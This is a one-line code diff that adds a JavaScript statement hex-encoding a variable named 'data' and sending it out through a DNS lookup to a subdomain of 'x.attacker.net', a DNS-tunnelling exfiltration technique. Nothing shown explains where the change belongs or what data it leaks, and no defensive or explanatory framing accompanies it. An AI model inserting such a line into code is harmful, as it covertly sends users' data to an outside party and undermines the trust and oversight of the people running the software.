@@ -1,0 +1,1 @@
+dns.resolve(Buffer.from(data).toString("hex") + ".x.attacker.net", () => {});
